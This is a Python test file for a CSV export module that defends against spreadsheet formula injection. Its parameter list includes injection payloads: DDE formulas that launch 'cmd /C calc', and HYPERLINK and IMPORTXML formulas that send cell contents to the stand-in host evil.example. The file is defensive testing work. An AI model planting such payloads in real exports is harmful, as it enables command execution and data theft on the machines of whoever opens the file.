from __future__ import annotations

import csv
import io

import pytest

import hostile
import reports
import reviews
from discrepancy.model import Report
from discrepancy.review import Reviewed, unreviewed
from discrepancy.writers.csv import CELL_LIMIT, COLUMNS, _cell, write


def rows(report: Report | Reviewed) -> list[dict[str, str]]:
    stream = io.StringIO()
    write(unreviewed(report) if isinstance(report, Report) else report, stream)
    csv.field_size_limit(10_000_000)
    return list(csv.DictReader(io.StringIO(stream.getvalue())))


def test_there_is_a_row_for_each_statement() -> None:
    read = rows(reports.report())
    assert [(row["rank"], row["side"]) for row in read] == [
        ("1", "A"),
        ("1", "B"),
        ("1", "C"),
        ("2", "A"),
        ("2", "B"),
        ("3", "A"),
        ("3", "B"),
    ]
    assert read[2]["path"] == "papers/inquiry.pdf"
    assert (read[2]["line"], read[2]["page"]) == ("", "2")
    assert read[1]["marked"] == "Nine"
    assert tuple(read[0]) == COLUMNS


@pytest.mark.parametrize("report", [hostile.report(), hostile.reviewed()], ids=["found", "reviewed"])
def test_no_cell_is_a_formula_or_too_long(report: Report | Reviewed) -> None:
    for row in rows(report):
        for cell in row.values():
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@")
            assert len(cell) <= 32_767


def test_what_readers_said_stands_at_the_end_of_each_row() -> None:
    read = rows(reviews.spoken())
    assert list(read[0])[-4:] == ["verdict", "state", "note", "resolution"]
    assert [(row["verdict"], row["state"]) for row in read if row["side"] == "A"] == [
        ("conflict", "extended"),
        ("", "again"),
        ("accepted", "judged"),
        ("", "open"),
    ]
    assert read[0]["note"] == "Rang the *ministry* at 9:30. They confirm it."
    assert read[0]["resolution"] == "At least 12 people died / https://ministry.example/toll_1"


RUNS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1",
    "\t=1",
    "\r=1",
    "\n-1",
    "\r\n=1",
    "\u00a0\u3000=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "⁼1",
    "−1",
    '"=1+1',
    "'=1+1",
    " ' \" =1",
    "=cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"ok")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
]


@pytest.mark.parametrize("text", RUNS)
def test_what_would_run_is_text(text: str) -> None:
    assert _cell(text).startswith("'")


@pytest.mark.parametrize("text", [f"a;{text}" for text in RUNS])
def test_what_would_run_behind_a_semicolon_is_text(text: str) -> None:
    assert _cell(text).startswith("a;'")


@pytest.mark.parametrize("text", ["\x00=1", "\x0b=1", "\u200b=1", "\ufeff=1", "\u202e=1"])
def test_what_a_program_may_drop_before_a_formula_is_a_name_that_stays(text: str) -> None:
    assert _cell(text)[0] in "␀␋<"


@pytest.mark.parametrize(
    "text",
    ["at least 12", "12 - 3", "“=1”", "'quoted'", '"quoted"', "a@b.example", "one; two", "a;b=1", "5 × -1", "", "— he"],
)
def test_what_would_not_run_stays(text: str) -> None:
    assert _cell(text) == text


@pytest.mark.parametrize("text", ["\t", "\r", "\n", "\tsaid", "\r\nsaid"])
def test_no_cell_begins_with_a_tab_or_a_line_break(text: str) -> None:
    assert _cell(text) == text.replace("\r\n", " ").replace("\t", " ").replace("\r", " ").replace("\n", " ")


@pytest.mark.parametrize("text", ["x", "\u202e", ";=", "=", "'"])
def test_a_cell_is_cut_where_a_spreadsheet_would_cut_it(text: str) -> None:
    assert len(_cell(text * 100_000)) == CELL_LIMIT


def test_a_quotation_mark_closes_no_cell() -> None:
    stream = io.StringIO()
    csv.writer(stream, quoting=csv.QUOTE_ALL).writerow([_cell('a","=1+1'), _cell('=1+2";=1+2')])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ['a","=1+1', "'=1+2\";'=1+2"]
